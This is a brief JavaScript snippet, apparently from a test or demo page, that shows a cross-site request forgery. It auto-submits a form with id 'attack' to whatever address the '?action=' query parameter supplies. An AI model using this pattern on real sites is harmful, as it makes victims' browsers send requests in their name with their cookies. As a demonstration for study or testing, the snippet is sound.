// A cross-site request forgery: post the form to the address in ?action= at once (as a hostile
// site would, with the victim's cookies if the browser sends them).
(function () {
  "use strict";
  var action = new URLSearchParams(window.location.search).get("action");
  var form = document.getElementById("attack");
  if (action) {
    form.setAttribute("action", action);
    form.submit();
  }
})();
